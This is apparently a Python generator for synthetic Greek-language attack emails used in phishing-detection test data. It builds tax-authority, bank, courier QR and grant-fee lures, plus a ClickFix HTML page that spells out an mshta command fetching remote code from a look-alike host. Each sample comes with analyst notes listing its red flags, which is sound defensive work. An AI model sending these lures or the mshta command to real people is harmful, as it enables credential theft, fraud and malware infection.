"""attack/32-36: Greek-language attacks."""
from . import company, docs, ids, mime, png, shared, systems
from .core import local, Part, rstr, HEXL, HEXU, ALNUM, guid
from .h import S, setup, meta, urls, mid_gmail, mid_tb, pdf_meta
from .registry import message

AFM = company.ENT['GR']['tax'][0][1]


@message('attack', 32, 'el', 'aade-myaade-epikairopoiisi')
def a32(m):
    ep = S('eleni.papadopoulou')
    sent = local('Europe/Athens', 2026, 11, 4, 9, 18, 27)
    setup(m, ('ΑΑΔΕ - myAADE', 'enimerosi@aade-myaade.gr'), [('', ep['addr'])],
          'Ειδοποίηση myAADE: Εκκρεμεί επικαιροποίηση στοιχείων μητρώου - Προθεσμία 5 ημερών', sent, zone='Europe/Athens',
          env_from='kalliopi@s3.hostgr-cloud.gr')
    m.hcharset, m.henc = 'iso-8859-7', 'B'
    m.msgid = '%s@aade-myaade.gr' % rstr(m.rng, ALNUM, 32)
    link = 'https://myaade-gov.gr.taxis-auth.com/login?afm=%s' % AFM
    paras = ['Αξιότιμε/η φορολογούμενε,',
             'Σας ενημερώνουμε ότι για τον ΑΦΜ %s (EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Ι.Κ.Ε.) εκκρεμεί η επικαιροποίηση των στοιχείων '
             'μητρώου (δραστηριότητες ΚΑΔ, στοιχεία νόμιμου εκπροσώπου και λογαριασμός IBAN επιστροφών) σύμφωνα με την απόφαση '
             'Α.1039/2026.' % AFM,
             'Εάν η επικαιροποίηση δεν ολοκληρωθεί εντός 5 εργάσιμων ημερών, θα απενεργοποιηθεί προσωρινά η δυνατότητα έκδοσης '
             'παραστατικών μέσω myDATA και η χορήγηση φορολογικής ενημερότητας.',
             'Για να ολοκληρώσετε τη διαδικασία, συνδεθείτε με τους κωδικούς Taxisnet:',
             'Με εκτίμηση,\nΑνεξάρτητη Αρχή Δημοσίων Εσόδων\nΓενική Διεύθυνση Ηλεκτρονικής Διακυβέρνησης']
    html = ('<html><body style="font-family:Arial,sans-serif;background:#f5f5f5;margin:0"><table align="center" width="620" '
            'style="background:#fff"><tr><td style="background:#003476;color:#fff;padding:18px 26px;font-size:20px;font-weight:bold">'
            'ΑΑΔΕ <span style="font-weight:normal;font-size:14px">Ανεξάρτητη Αρχή Δημοσίων Εσόδων</span></td></tr>'
            '<tr><td style="padding:24px 26px;font-size:14px">' + ''.join('<p>%s</p>' % mime.esc(p) for p in paras[:4]) +
            '<p><a href="%s" style="background:#003476;color:#fff;padding:10px 22px;text-decoration:none">Σύνδεση στο myAADE</a></p>'
            '<p>%s</p></td></tr></table></body></html>' % (mime.esc(link), mime.esc(paras[4]).replace('\n', '<br>')))
    plain = '\n\n'.join(paras[:4]) + '\n\nΣύνδεση στο myAADE: %s\n\n' % link + paras[4] + '\n'
    m.body = mime.alt(m, 'phpmailer', mime.text(plain, 'iso-8859-7', 'quoted-printable'), mime.html(html, 'iso-8859-7', 'quoted-printable'))
    systems.cpanel_phpmailer(m, 's3.hostgr-cloud.gr', '203.0.113.57', 'kalliopi', '/home/kalliopi/public_html/wp-includes/class-wp-mail-sender.php',
                             signed=False, php_version='7.4', phpmailer='6.8.1')
    urls(m, link)
    meta(m, 'Tax-authority phishing: "AADE / myAADE" demands an update of the company\'s registry data (activity codes, legal '
            'representative, refund IBAN) within five days or myDATA invoicing and tax clearance are blocked; asks for Taxisnet credentials.',
         'AADE does not send login links; sender domain aade-myaade.gr is not aade.gr and the mail came from a hacked Greek WordPress '
         'site (PHPMailer on cPanel); phishing host myaade-gov.gr.taxis-auth.com. Genuine AADE notice: business/32.')


@message('attack', 33, 'el', 'winbank-business-periorismos')
def a33(m):
    gn = S('giorgos.nikolaidis')
    sent = local('Europe/Athens', 2026, 10, 16, 18, 5, 40)
    setup(m, ('Πειραιώς winbank', 'noreply@winbank-business-gr.com'), [('', gn['addr'])],
          'Προσωρινός περιορισμός πρόσβασης στο winbank business', sent, zone='Europe/Athens')
    m.hcharset, m.henc = 'windows-1253', 'B'
    link = 'https://winbank-business-gr.com/epalithefsi/?id=%s' % rstr(m.rng, HEXL, 18)
    paras = ['Αγαπητέ πελάτη,',
             'Στο πλαίσιο της εφαρμογής της Οδηγίας PSD3 για την ισχυρή ταυτοποίηση πελατών, εντοπίσαμε ότι τα στοιχεία επικοινωνίας του '
             'συνδρομητή της επιχείρησής σας δεν έχουν επιβεβαιωθεί. Για την ασφάλειά σας η δυνατότητα εκτέλεσης μεταφορών και μαζικών '
             'πληρωμών στο winbank business έχει περιοριστεί προσωρινά.',
             'Για να άρετε τον περιορισμό, επιβεβαιώστε τα στοιχεία σας εντός 24 ωρών:',
             'Ευχαριστούμε,\nΤράπεζα Πειραιώς']
    html = ('<html><body style="margin:0;font-family:Arial,sans-serif;background:#eef2f5"><table align="center" width="600" '
            'style="background:#fff"><tr><td style="background:#ffd100;padding:16px 26px;font-size:22px;font-weight:bold;color:#00364a">'
            'ΠΕΙΡΑΙΩΣ <span style="font-weight:normal">winbank</span></td></tr><tr><td style="padding:24px 26px;font-size:14px;color:#00364a">' +
            ''.join('<p>%s</p>' % mime.esc(p) for p in paras[:3]) +
            '<p><a href="%s" style="background:#00364a;color:#fff;padding:11px 24px;text-decoration:none">Επιβεβαίωση στοιχείων</a></p>'
            '<p>%s</p></td></tr></table></body></html>' % (mime.esc(link), mime.esc(paras[3]).replace('\n', '<br>')))
    m.body = mime.alt(m, 'java', mime.text(mime.html2text(html), 'windows-1253', 'base64'), mime.html(html, 'windows-1253', 'base64'))
    systems.ses(m, region='eu-central-1', domain_selector='q4m2x8k1c7v3b9n5h6j2l0p4r8t1w3y5', ses_selector='54ecsf3zk7z4mwxwwox7z7bg6e5gwjsz')
    urls(m, link)
    meta(m, 'Bank credential phishing: "Piraeus winbank business" has restricted transfers and bulk payments until the subscriber '
            'confirms the contact details within 24 hours.',
         'Look-alike domain via a compromised Amazon SES account; invented regulatory pretext ("PSD3"), restriction plus deadline; '
         'the link is not on winbank.gr. Genuine bank notice with no login link: business/36.')


@message('attack', 34, 'el', 'acs-courier-qr-inline')
def a34(m):
    ep = S('eleni.papadopoulou')
    sent = local('Europe/Athens', 2026, 12, 4, 11, 40, 9)
    num = '7204183395'
    setup(m, ('ACS Courier', 'info@acs-courier-gr.com'), [('', ep['addr'])],
          'Η αποστολή σας %s δεν παραδόθηκε – απαιτείται επιβεβαίωση διεύθυνσης' % num, sent, zone='Europe/Athens')
    m.msgid = '%s.%s@acs-courier-gr.com' % (rstr(m.rng, HEXL, 16), rstr(m.rng, '0123456789', 10))
    payload = 'https://acs-gr-tracking.com/p/%s?c=EP%s' % (num, rstr(m.rng, '0123456789', 4))
    qrpng, _ = png.qr_png(payload, scale=5, border=4)
    m.qr_expect.append(('inline image qr.png', payload))
    c = png.Canvas(560, 70, (227, 6, 19))
    c.text(24, 20, 'ACS COURIER', (255, 255, 255), scale=4)
    logo = c.png()
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f3f3f3;'
            'font-family:Arial,sans-serif"><table align="center" width="560" style="background:#fff"><tr><td><img src="cid:acslogo" '
            'width="560" height="70" alt="ACS Courier"></td></tr><tr><td style="padding:20px 26px;font-size:15px;color:#222">'
            '<p>Αγαπητέ πελάτη,</p><p>Η αποστολή με αριθμό <b>%s</b> δεν μπόρεσε να παραδοθεί σήμερα, διότι η διεύθυνση παραλήπτη '
            'είναι ελλιπής (λείπει ο όροφος / το κουδούνι).</p><p>Για να προγραμματίσετε νέα παράδοση, σαρώστε τον παρακάτω κωδικό QR '
            'με την κάμερα του κινητού σας και επιβεβαιώστε τη διεύθυνση. Ισχύει χρέωση επαναποστολής 1,90 €.</p>'
            '<p style="text-align:center"><img src="cid:qrcode" width="205" height="205" alt="QR"></p>'
            '<p>Εάν δεν επιβεβαιωθεί εντός 48 ωρών, η αποστολή θα επιστραφεί στον αποστολέα.</p><p>ACS Courier – Εξυπηρέτηση Πελατών</p>'
            '</td></tr></table></body></html>' % num)
    plain = ('Αγαπητέ πελάτη,\n\nΗ αποστολή με αριθμό %s δεν μπόρεσε να παραδοθεί σήμερα, διότι η διεύθυνση παραλήπτη είναι ελλιπής.\n'
             'Σαρώστε τον κωδικό QR στην έκδοση HTML του μηνύματος για να προγραμματίσετε νέα παράδοση (χρέωση 1,90 €).\n\n'
             'ACS Courier – Εξυπηρέτηση Πελατών\n' % num)
    rel = mime.related(m, 'java', mime.html(html, 'utf-8', 'base64'),
                       [mime.image(logo, 'acs_logo.png', 'acslogo'), mime.image(qrpng, 'qr.png', 'qrcode')])
    m.body = Part('multipart/alternative', boundary=mime.boundary(m, 'java', 'alt'),
                  children=[mime.text(plain, 'utf-8', 'base64'), rel])
    systems.direct(m, 'mail.acs-courier-gr.com', '198.51.100.134', rdns='mail.acs-courier-gr.com', spf='pass',
                   x_mailer='Microsoft CDO for Windows 2000')
    meta(m, 'Quishing in the message body: "ACS Courier" could not deliver a parcel, scan the inline QR code with your phone to '
            'confirm the address and pay a 1.90 EUR redelivery fee.',
         'The only link is inside an image (QR) so URL scanners see nothing; look-alike domain acs-courier-gr.com with its own server '
         '(SPF pass, no DKIM); card-data harvesting behind the QR. Genuine ACS notification with a normal tracking link: business/34.')


@message('attack', 35, 'el', 'clickfix-html-prosfora')
def a35(m):
    gn = S('giorgos.nikolaidis')
    sent = local('Europe/Athens', 2026, 11, 19, 12, 55, 3)
    setup(m, ('Σοφία Αλεξίου', 's.alexiou@alexiou-architects.gr'), [(company.NATIVE[gn['addr']], gn['addr'])],
          'Πρόσκληση υποβολής προσφοράς – 6 ξύλινες κατοικίες στην Περαία', sent, zone='Europe/Athens', style='gmail')
    m.msgid = mid_gmail(m)
    cmd = 'mshta https://cdn-verify.perea-docs.com/ray/8f2a61c0 # ✅ Είμαι άνθρωπος – Cloudflare Ray ID: 8f2a61c0d4e7b913'
    lines = ['Καλησπέρα σας,', '',
             'εκ μέρους του πελάτη μας σας προσκαλούμε να υποβάλετε προσφορά για την κατασκευή 6 μονοκατοικιών με ξύλινο φέροντα '
             'οργανισμό (timber frame) στην Περαία Θεσσαλονίκης, συνολικής επιφάνειας περίπου 840 τ.μ.', '',
             'Στο συνημμένο θα βρείτε τον σύνδεσμο προς τα σχέδια, το τεύχος προδιαγραφών και το έντυπο προσφοράς. Για λόγους '
             'εμπιστευτικότητας το αρχείο ανοίγει μόνο μετά από σύντομο έλεγχο ασφαλείας.', '',
             'Προθεσμία υποβολής: Παρασκευή 4 Δεκεμβρίου 2026.', '',
             'Με εκτίμηση,', 'Σοφία Αλεξίου', 'Αρχιτέκτων Μηχανικός', 'Αλεξίου Αρχιτέκτονες & Συνεργάτες', 'Τσιμισκή 112, 546 22 Θεσσαλονίκη',
             'Τηλ. 2310 255 604']
    page = ('<!DOCTYPE html>\n<html lang="el"><head><meta charset="utf-8"><title>Έλεγχος ασφαλείας</title><style>'
            'body{font-family:system-ui,Arial,sans-serif;background:#fff;color:#313131;margin:0}.w{max-width:640px;margin:70px auto}'
            '.box{border:1px solid #d9d9d9;border-radius:6px;padding:22px 26px;margin:20px 0}.k{font-family:Consolas,monospace;'
            'background:#f4f4f4;padding:10px;border:1px solid #ddd;word-break:break-all}</style></head><body><div class="w">'
            '<h1 style="font-size:26px">Προσφορά_Έργου_Περαία_2026.pdf</h1><p>Επιβεβαιώστε ότι είστε άνθρωπος για να συνεχίσετε. '
            'Το cdn-verify.perea-docs.com πρέπει να ελέγξει την ασφάλεια της σύνδεσής σας.</p><div class="box">'
            '<b>Βήματα επαλήθευσης</b><ol><li>Πατήστε ταυτόχρονα το πλήκτρο Windows και το R</li>'
            '<li>Στο παράθυρο που θα ανοίξει πατήστε Ctrl + V</li><li>Πατήστε Enter</li></ol>'
            '<p>Ο κωδικός επαλήθευσης που θα επικολληθεί:</p><div class="k">%s</div></div>'
            '<p style="font-size:12px;color:#888">Performance &amp; security by Cloudflare · Ray ID: 8f2a61c0d4e7b913</p></div></body></html>\n'
            % mime.esc(cmd))
    gm = mime.gmail_html(lines)
    m.body = mime.mixed(m, 'gmail', [
        mime.alt(m, 'gmail', mime.text('\n'.join(lines) + '\n', 'UTF-8', 'base64'), mime.html(gm, 'UTF-8', 'base64')),
        Part('text/html', body=page, charset='UTF-8', cte='base64', filename='Προσφορά_Έργου_Περαία_2026.html', disposition='attachment',
             headers=[('X-Attachment-Id', 'f_m' + rstr(m.rng, 'abcdefghijklmnopqrstuvwxyz0123456789', 8))])])
    systems.gmail(m, workspace_domain='alexiou-architects.gr')
    urls(m, 'https://cdn-verify.perea-docs.com/ray/8f2a61c0')
    m.fact('Phone', 'Τηλ. 2310 255 604')
    m.fact('Other', 'ClickFix command shown to the user (not executed, no clipboard script in the sample): `%s`' % cmd)
    meta(m, 'ClickFix via HTML attachment: an invitation to tender for six timber houses; the attachment imitates a Cloudflare '
            '"verify you are human" page telling the user to press Win+R, paste and Enter – which would run an mshta command.',
         'Compromised Google Workspace mailbox of an architecture office (authentication passes); the attachment turns the user into '
         'the malware launcher, bypassing attachment sandboxing; the command points to perea-docs.com. In the wild the page copies the '
         'command to the clipboard with JavaScript – omitted here to keep the sample inert.')


@message('attack', 36, 'el', 'espa-egkrisi-paravolo')
def a36(m):
    ep = S('eleni.papadopoulou')
    sent = local('Europe/Athens', 2026, 10, 29, 14, 12, 48)
    setup(m, ('ΕΣΠΑ 2021-2027 – Τμήμα Εγκρίσεων', 'espa.egkriseis.2027@gmail.com'), [('', ep['addr'])],
          'Έγκριση χρηματοδότησης ΕΣΠΑ – Δράση «Πράσινη Μετάβαση ΜμΕ» – Αρ. Πρωτ. 48217/ΕΥΔ', sent, zone='Europe/Athens', style='gmail')
    m.msgid = mid_gmail(m)
    iban = ids.iban_make('GR', '017' + '2160' + '0005216048177315')
    phone = '+30 210 3728 451'
    lines = ['Αξιότιμοι κύριοι,', '',
             'σας ενημερώνουμε ότι η επιχείρησή σας EXAMPLE GROUP HELLAS (ΑΦΜ %s) έχει προεπιλεγεί για χρηματοδότηση ύψους '
             '185.000 € στο πλαίσιο της Δράσης «Πράσινη Μετάβαση Μικρομεσαίων Επιχειρήσεων» του ΕΣΠΑ 2021-2027 (ποσοστό επιχορήγησης 60%%), '
             'για επενδύσεις σε ενεργειακά αποδοτικό εξοπλισμό παραγωγής.' % AFM, '',
             'Για την οριστική ένταξη απαιτείται η καταβολή παραβόλου ελέγχου φακέλου ύψους 380,00 € έως τις 04/11/2026 στον '
             'λογαριασμό του Φορέα Διαχείρισης:', '',
             'Δικαιούχος: ΕΦΔ Συμβουλευτική Ανάπτυξης ΙΚΕ', 'IBAN: %s' % ids.iban_fmt(iban), 'Αιτιολογία: 48217/ΕΥΔ ΠΡΑΣΙΝΗ ΜΕΤΑΒΑΣΗ', '',
             'Μετά την πληρωμή αποστείλατε το αποδεικτικό σε αυτό το email. Για πληροφορίες: %s (Δευτέρα–Παρασκευή 09:00–17:00).' % phone, '',
             'Με εκτίμηση,', 'Δρ. Κωνσταντίνος Μαυρίδης', 'Προϊστάμενος Τμήματος Εγκρίσεων']
    gm = mime.gmail_html(lines)
    m.body = mime.alt(m, 'gmail', mime.text('\n'.join(lines) + '\n', 'UTF-8', 'quoted-printable'), mime.html(gm, 'UTF-8', 'quoted-printable'))
    systems.gmail(m)
    m.fact('IBAN', iban)
    m.fact('Phone', phone)
    meta(m, 'Advance-fee fraud with a local flavour: the company has been "pre-selected" for a 185,000 EUR EU/ESPA subsidy and only '
            'needs to pay a 380 EUR "file review fee" to a private company\'s account.',
         'Free Gmail address for a public funding body, unsolicited grant nobody applied for, fee in advance to a private IKE, short '
         'deadline; ESPA fees are never paid this way.')
